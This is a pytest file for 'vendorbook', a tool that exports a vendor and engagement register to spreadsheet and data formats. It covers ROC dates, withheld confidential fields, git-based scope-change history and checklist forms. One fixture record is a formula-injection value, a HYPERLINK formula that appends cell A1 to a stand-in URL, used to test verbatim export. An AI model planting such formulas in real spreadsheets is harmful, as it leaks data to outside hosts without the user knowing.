"""What the tables say, and what they leave out."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest

from tests.conftest import AS_OF, ROOT
from tests.exports.conftest import RECORD, material_of
from tests.helpers.repos import Repo
from vendorbook import repository
from vendorbook.exports import Cell, Export, Form, Kind, Material, Table, export, formats, gathered, writer
from vendorbook.exports import tables as tables_folder
from vendorbook.exports import writers as writers_folder
from vendorbook.exports.roc import roc
from vendorbook.judging import Rules, Verdict
from vendorbook.model import CannotJudge, Node
from vendorbook.repository import Memory

ROC_DATES = {
    date(2026, 11, 22): "民國115年11月22日",
    date(1912, 1, 1): "民國1年1月1日",
    date(1911, 12, 31): "民國前1年12月31日",
    date(1900, 2, 28): "民國前12年2月28日",
    date(2011, 2, 28): "民國100年2月28日",
}


def table(of: Export | Material, name: str) -> Table:
    made = of if isinstance(of, Export) else Export(of, "en")
    return next(each for each in made.tables if each.name == name)


def records(of: Export | Material, name: str) -> list[dict[str, Cell]]:
    return table(of, name).records


@pytest.mark.parametrize("day", ROC_DATES)
def test_the_years_of_the_republic(day: date) -> None:
    assert roc(day) == ROC_DATES[day]


def test_every_date_has_its_roc_date_beside_it(export: Export) -> None:
    seen = 0
    for each in export.tables:
        for at, column in enumerate(each.columns):
            if column.kind is Kind.DATE:
                assert each.columns[at + 1].name == f"{column.name}_roc"
                for row in each.rows:
                    day = row[at]
                    assert row[at + 1] == (roc(day) if isinstance(day, date) else None)
                    seen += day is not None
    assert seen > 1000


def test_rows_have_a_cell_of_its_kind_for_each_column(export: Export) -> None:
    kinds = {
        Kind.TEXT: str,
        Kind.LIST: tuple,
        Kind.BOTH: tuple,
        Kind.DATE: date,
        Kind.NUMBER: int | float,
        Kind.COUNT: int,
        Kind.FLAG: bool,
    }
    for each in export.tables:
        assert each.title.zh_tw != each.title.en
        assert len({column.name for column in each.columns}) == len(each.columns)
        for row in each.rows:
            for cell, column in zip(row, each.columns, strict=True):
                assert cell is None or isinstance(cell, kinds[column.kind]), (each.name, column.name, cell)


def test_every_table_of_the_example_has_rows(export: Export) -> None:
    assert [each.name for each in export.tables if not each.rows] == []


def test_all_fields_have_every_value_of_the_records(everything: Material, example_files: dict[str, bytes]) -> None:
    told = {(each["file"], each["pointer"]): each["value"] for each in records(everything, "fields")}
    found = 0
    for engagement in everything.engagements:
        for leaf in _leaves(engagement.root):
            value = leaf.value
            said = str(value).lower() if isinstance(value, bool) else str(value) if value not in ([], {}) else ""
            assert told[leaf.source.path, leaf.pointer] == said
            found += 1
    assert found > 2000


def _leaves(node: Node) -> Iterator[Node]:
    below = [*node.fields(), *node.items()]
    for each in below:
        yield from _leaves(each)
    if not below:
        yield node


def test_what_a_record_says_is_told_as_it_is(plain: Export) -> None:
    (service,) = [each for each in records(plain, "services") if each["engagement"] == "paper-crane/website"]
    assert service["description"] == '=HYPERLINK("https://example.invalid/?"&A1,"x")'


# -- what must not leave the firm ----------------------------------------------------------------------


def _secrets(everything: Export) -> set[str]:
    """Addresses, numbers and names that stand nowhere else."""
    contacts = records(everything, "contacts")
    named = [each[name] for each in contacts for name in ("email", "phone") if each[name]]
    return {str(each) for each in [*named, *(each["name"] for each in records(everything, "people"))]}


@pytest.mark.parametrize("format", sorted({*formats()} - {"ods", "xlsx"}))
def test_confidential_fields_are_left_out(format: str, plain: Export, export: Export) -> None:
    secrets = {each.encode() for each in _secrets(export)}
    assert len(secrets) > 30
    without = b"".join(writer(format).files(plain).values())
    assert [each for each in secrets if each in without] == []
    if format in ("csv", "json", "parquet"):
        within = b"".join(writer(format).files(export).values())
        assert [each for each in secrets if each not in within] == []


@pytest.mark.parametrize("format", ["xlsx", "ods"])
def test_confidential_fields_are_left_out_of_workbooks(format: str, plain: Export, export: Export) -> None:
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_filelike(BytesIO(writer(format).files(plain)[""]))
    shown = "\n".join(str(book.get_sheet_by_name(name).to_python()) for name in book.sheet_names)
    assert "paper-crane/website" in shown
    assert [each for each in _secrets(export) if each in shown] == []


def export_of(material: Material, format: str) -> dict[str, bytes]:
    return dict(export(material, "zh-TW", format))


def test_a_file_says_whether_it_holds_them(plain: Export, export: Export) -> None:
    for of, said in ((plain, "left out"), (export, "must not leave the firm")):
        (told,) = [each["value"] for each in records(of, "about") if each["name"] == "confidential"]
        assert said in str(told)
    withheld = {f"{each['table']}.{each['column']}" for each in records(plain, "columns") if each["withheld"]}
    assert withheld == set(json.loads(writer("json").files(plain)[""])["withheld"])
    assert {"contacts.email", "grants.holder", "people.name", "ownership.holder"} <= withheld
    assert not any(each["withheld"] for each in records(export, "columns"))


# -- Article 6 -----------------------------------------------------------------------------------------


def test_changes_of_a_scope_with_and_without_an_assessment(repo: Repo, material: Material) -> None:
    own = [each for each in records(material, "scope_changes") if each["engagement"] == "paper-crane/website"]
    added, bare, assessed = own

    assert [each["commit"] for each in own] == repo.git("rev-list", "--reverse", "HEAD").split()
    assert added["digest_before"] is None
    assert (added["digest_after"], bare["digest_after"]) == (bare["digest_before"], assessed["digest_before"])
    assert (bare["assessment"], bare["author"]) == (None, None)
    assert assessed["assessment"] == "journal/2026-11-20-risk-assessment"
    assert (assessed["together"], assessed["author"]) == (True, "s-0103")
    assert (assessed["trigger"], assessed["led_by"]) == ("change-of-service", "s-0107")
    assert (assessed["approved_on"], assessed["approved_on_roc"]) == (date(2026, 11, 20), "民國115年11月20日")


def test_a_shallow_clone_is_no_history(repo: Repo, tmp_path: Path) -> None:
    shallow = repo.clone(tmp_path / "shallow", "--depth=1")
    with pytest.raises(CannotJudge) as trouble:
        material_of(shallow.path)
    assert "git fetch --unshallow" in trouble.value.message.en


def test_without_git_there_is_no_history_and_the_file_says_so(example: dict[str, bytes]) -> None:
    memory = Memory(example)
    material = gathered(memory, Rules(repository.rules_of(memory)), AS_OF)
    assert records(material, "scope_changes") == []
    (said,) = [each["value"] for each in records(material, "about") if each["name"] == "commit"]
    assert "no history" in str(said)


# -- a part, and what cannot be judged -----------------------------------------------------------------


def test_one_engagement_alone(repo: Repo, verdict: Verdict) -> None:
    wanted = "night-owl/soc-monitoring"
    made = Export(material_of(repo.path, engagements=(wanted,)), "en")

    for each in made.tables:
        named = {row[name] for row in each.records for name in ("engagement", "record", "supplier") if name in row}
        assert named <= {wanted, "night-owl"}, each.name
    assert len(table(made, "clauses").rows) > 10
    assert len(table(made, "findings").rows) == len(
        [each for each in verdict.findings if each.record in (wanted, "night-owl")]
    )
    assert [form.name for form in table(made, "checklists").forms] == [wanted]


@pytest.mark.parametrize("named", ["night-owl", "night-owl/nothing", "../x", ""])
def test_an_engagement_that_is_not_there(named: str, repo: Repo) -> None:
    with pytest.raises(CannotJudge) as trouble:
        material_of(repo.path, engagements=(named,))
    assert trouble.value.message.en == f"there is no engagement {named} in the register"


def test_a_file_that_cannot_be_read_is_told(example: dict[str, bytes]) -> None:
    memory = Memory(example | {RECORD: b"status: [\n"})
    material = gathered(memory, Rules(repository.rules_of(memory)), AS_OF)

    (complete,) = [each["value"] for each in records(material, "about") if each["name"] == "complete"]
    assert "paper-crane/website" in str(complete)
    assert "paper-crane/website" not in {each["engagement"] for each in records(material, "engagements")}
    assert "record-is-readable" in {each["policy"] for each in records(material, "findings")}
    assert records(material, "concentration_groups") == []


# -- the form ------------------------------------------------------------------------------------------


def test_a_form_asks_every_question_of_its_edition(export: Export, everything: Material) -> None:
    editions = {each.text("id"): len(each.values("items[]")) for each in everything.book.checklist.find("editions[]")}
    forms = table(export, "checklists").forms
    assert [form.name for form in forms] == [each.id for each in everything.engagements]
    for form in forms:
        facts = {label.en: value for label, value in form.facts}
        assert len(form.rows) == editions[str(facts["Edition"])]
        assert [row[0] for row in form.rows] == list(range(1, len(form.rows) + 1))
    assert {str(_answer(row[3])) for form in forms for row in form.rows} >= {"符合", "未符合", "不適用"}


def _answer(cell: Cell) -> object:
    return cell[0] if isinstance(cell, tuple) else cell


def test_a_draft_has_a_blank_form(export: Export) -> None:
    form: Form = next(each for each in table(export, "checklists").forms if each.name == "paper-crane/website")
    assert form.signatures


# -- adding --------------------------------------------------------------------------------------------

TABLE = """
from vendorbook.exports import Column, Table
from vendorbook.model import Text
ORDER = 5
def table(material):
    return Table("weather", Text("天氣", "Weather"), [Column("sky", Text("天空", "Sky"))], [("晴",)])
"""
WRITER = """
from vendorbook.model import Text
SAID = Text("列數", "how many rows")
IN_FOLDER, IS_TEXT = False, True
def files(export):
    return {"": "".join(f"{each.name}: {len(each.rows)}\\n" for each in export.tables).encode()}
"""


def test_a_table_and_a_format_are_added_by_a_file_each(
    material: Material, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "weather.py").write_text(TABLE, "utf-8")
    (tmp_path / "w").mkdir()
    (tmp_path / "w" / "counts.py").write_text(WRITER, "utf-8")
    monkeypatch.setattr(tables_folder, "__path__", [*tables_folder.__path__, str(tmp_path)])
    monkeypatch.setattr(writers_folder, "__path__", [*writers_folder.__path__, str(tmp_path / "w")])

    assert "counts" in formats()
    assert "weather: 1\n" in export_of(material, "counts")[""].decode()
    assert export_of(material, "csv")["weather.csv"].decode() == "sky\r\n晴\r\n"
    assert json.loads(export_of(material, "json")[""])["tables"]["weather"] == [{"sky": "晴"}]


@pytest.mark.parametrize("page", ["exports.md", "exports.en.md"])
def test_the_page_names_every_table(page: str, export: Export) -> None:
    blocks = (ROOT / "docs" / page).read_text("utf-8").split("```text\n")
    assert blocks[1].partition("```")[0].split() == [each.name for each in export.tables]
